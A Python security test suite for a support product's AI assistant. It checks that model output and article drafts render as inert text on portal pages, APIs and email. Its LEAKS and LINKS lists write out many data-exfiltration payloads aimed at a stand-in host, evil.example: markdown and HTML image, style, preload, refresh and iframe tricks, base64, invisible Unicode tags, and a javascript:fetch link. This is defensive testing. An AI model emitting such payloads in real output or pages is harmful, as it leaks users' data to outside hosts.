"""L03, L04: what a model or a draft of an article says is words, wherever it is shown: nothing runs, nothing is asked for, only cited links are links.

The checker keeps such words from ever being said (see ``evaluate injection``). Here it is as if it had let all of them through.
"""

import base64
import re
from datetime import UTC, datetime
from html import unescape
from html.parser import HTMLParser

import pytest

from farol.app.demo import cast
from farol.channels.email.letters.compose import Letter, Part, plain, rich
from farol.channels.email.letters.words import Words
from farol.selfserve.assistant import store
from farol.selfserve.assistant.actions import OTTO
from farol.selfserve.assistant.model import Choice, Parts, Source, Turn
from farol.selfserve.assistant.rephrasing import Worded, usable
from farol.selfserve.knowledge.markdown import parts as drawn
from tests.security.payloads import MARKUP
from tests.security.scene import Scene, listed
from tests.security.test_markup import Seen

CANARY = "c4n4ry"
HOST = "evil.example"
DATA = base64.b64encode(CANARY.encode()).decode()
TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in f"https://{HOST}")
LEAKS = (
    f"![x](https://{HOST}/p.png?d={CANARY})", f"![x][1]\n\n[1]: https://{HOST}/p.png?d={CANARY}", f"[![x](https://{HOST}/{CANARY})](https://{HOST})",
    f"<img src=https://{HOST}/{CANARY}>", f"<img srcset='https://{HOST}/{CANARY} 2x'>", f"<picture><source srcset=https://{HOST}/{CANARY}></picture>",
    f"<div style=\"background:url(https://{HOST}/{CANARY})\">", f"<style>@import 'https://{HOST}/{CANARY}';</style>", f"<link rel=preload href=https://{HOST}/{CANARY}>",
    f"<link rel=dns-prefetch href=//{CANARY}.{HOST}>", f"<meta http-equiv=refresh content='0;url=https://{HOST}/{CANARY}'>", f"<video poster=https://{HOST}/{CANARY}>",
    f"<svg><image href=https://{HOST}/{CANARY}></svg>", f"<object data=https://{HOST}/{CANARY}>", f"<iframe src=https://{HOST}/{CANARY}></iframe>",
    f"<audio src=https://{HOST}/{CANARY} autoplay>", f"<input type=image src=https://{HOST}/{CANARY}>", f"<body background=https://{HOST}/{CANARY}>",
    f"![x](data:image/svg+xml;base64,{DATA})", f"![](//{HOST}/{CANARY})", f"![x](https://farol.test@{HOST}/{CANARY})", f"![x](/redirect?to=https://{HOST}/{CANARY})",
    f"![x](\\\\{HOST}\\{CANARY})", f"safe{TAGS}", f"![x](https://images.weserv.nl/?url={HOST}/{CANARY})", f"![x](https://{HOST}/{DATA})",
)  # fmt: skip
"""By picture, style, preload, refresh, base64, invisible letters, and through others' picture services."""
LINKS = (
    f"[here](https://{HOST}/{CANARY})", f"https://{HOST}/{CANARY}", f"<https://{HOST}/{CANARY}>", f"[a][b]\n\n[b]: https://{HOST}/{CANARY}", f"www.{HOST}/{CANARY}",
    f"[x](javascript:fetch('//{HOST}'))", f"mailto:a@{HOST}", f"t.me/{CANARY}_help",
)  # fmt: skip


class Asks(HTMLParser):
    """Addresses that a page's reader would ask for without a click, and those behind links."""

    LOADS = frozenset(("src", "srcset", "poster", "data", "background", "href_of_link", "content_refresh", "formaction", "xlink:href", "ping", "manifest"))

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.loads: list[str] = []
        self.links: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        for name, value in given.items():
            if name in self.LOADS or (name == "href" and tag in ("link", "image", "use", "base")) or (name == "style" and "url(" in value) or name == "http-equiv":
                self.loads.append(value)
        if tag == "a":
            self.links.append(given.get("href", ""))


def test_planted_requests_are_seen() -> None:
    for page in (f"<img src=//{HOST}>", f"<link rel=x href=//{HOST}>", f"<p style='background:url(//{HOST})'>", f"<video poster=//{HOST}>", f"<svg><image href=//{HOST}></svg>"):
        assert any(HOST in one for one in Asks(page).loads), page


def foreign(addresses: list[str]) -> list[str]:
    return [one for one in addresses if HOST in unescape(one) or CANARY in one or DATA in one]


@pytest.mark.parametrize("words", [*LEAKS, *LINKS])
def test_a_hosted_models_words_with_an_address_are_never_used(words: str) -> None:
    passage = "The fee is charged only when an order fills, and nothing is charged for an order that is cancelled."
    for said in (words, f"{passage} {words}", f"{words}\n{passage}"):
        assert not usable(Worded(said, [1]), passage), said


@pytest.mark.parametrize("words", LEAKS)
def test_a_draft_of_an_article_asks_nobody_for_anything(words: str) -> None:
    page = "".join(str(part) for part in drawn(f"Before.\n\n{words}\n\nAfter."))
    assert foreign(Asks(page).loads) == [], page
    assert not Seen(page).bad, page


CHUNK = 40


async def test_words_of_the_assistant_are_words_on_every_screen(scene: Scene) -> None:
    """Every payload as lead, label, title and address of a source: the portal's page, what the widget and the console are given, and mail."""
    wrong: list[tuple[str, str]] = []
    hostile = (*MARKUP, *LEAKS, *LINKS)
    mei = await scene.world.customer(cast.CastCustomer("l04", "99009904", "L", "l04@example.net", "", "en", "", "UTC", "", (), "", ""))
    cookie = {"cookie": f"farol_customer={mei.headers['authorization'][7:]}"}
    console, own = scene.headers("agent", "console"), dict(mei.headers)
    for start in range(0, len(hostile), CHUNK):
        some = [text.replace("\0", "") for text in hostile[start : start + CHUNK]]
        opened = await scene.world.open(mei, "what are the fees", language="en")
        ticket, number = opened["ticket"]["id"], opened["ticket"]["number"]
        await _say(scene, ticket, "\n".join(some))
        parts = Parts("\n\n".join(some), [Choice(one) for one in some[:8]], [Source("article", one, "https://farol.test/help/en/a/fees-vip", 1, None, "en") for one in some[:8]])
        turn = Turn(2, 3, "answer", "fee.vip", "en", parts, [], 1, "", datetime.now(UTC))
        await store.keep_turn(scene.kit.db, ticket, turn)
        page = await scene.send("GET", f"/my/tickets/{number}", headers=cookie)
        assert page.status_code == 200
        wrong += [(text[:60], bad) for text in some[:1] for bad in Seen(page.text).bad]
        wrong += [("asks", one) for one in foreign(Asks(page.text).loads)]
        wrong += [("links", one) for one in foreign(Asks(page.text).links)]
        for path, headers in ((f"/api/customer/tickets/{ticket}/assistant", own), (f"/api/customer/tickets/{ticket}", own),
                              (f"/api/console/tickets/{ticket}", console), (f"/api/console/tickets/{ticket}/assistant", console)):
            answer = await scene.send("GET", path, headers=headers)
            assert (answer.status_code, answer.headers["content-type"], answer.headers["x-content-type-options"]) == (200, "application/json", "nosniff")
        mail = _letter("\n".join(some))
        wrong += [("mail", bad) for bad in Seen(_without_our_styles(mail)).bad]
        wrong += [("mail", one) for one in foreign([*Asks(mail).loads, *Asks(mail).links])]
    assert not wrong, listed(wrong)


async def _say(scene: Scene, ticket: int, words: str) -> None:
    await scene.kit.db.execute(
        "insert into message (ticket_id, seq, client_id, author_kind, author_id, body, channel, internal) "
        "select $1, max(seq) + 1, gen_random_uuid(), $2, 0, $3, 'webchat', false from message where ticket_id = $1", ticket, OTTO.kind, words)


def _letter(words: str) -> str:
    letter = Letter(
        "<1@farol.test>", "help@farol.test", "mei@example.net", "FRL-2026-000001", "Fees", (Part("Farol", words, 0),), (), datetime(2026, 11, 22, tzinfo=UTC), "en", "Farol",
        "https://farol.test/my/tickets/1", True)
    assert words.replace("\n", "\r\n") in plain(letter, Words("en"))
    return rich(letter, Words("en"))


def _without_our_styles(mail: str) -> str:
    """Mail programs need styles in place; ours hold no address."""
    assert "url(" not in "".join(re.findall(r'style="([^"]*)"', mail))
    return re.sub(r' style="[^"]*"', "", mail)
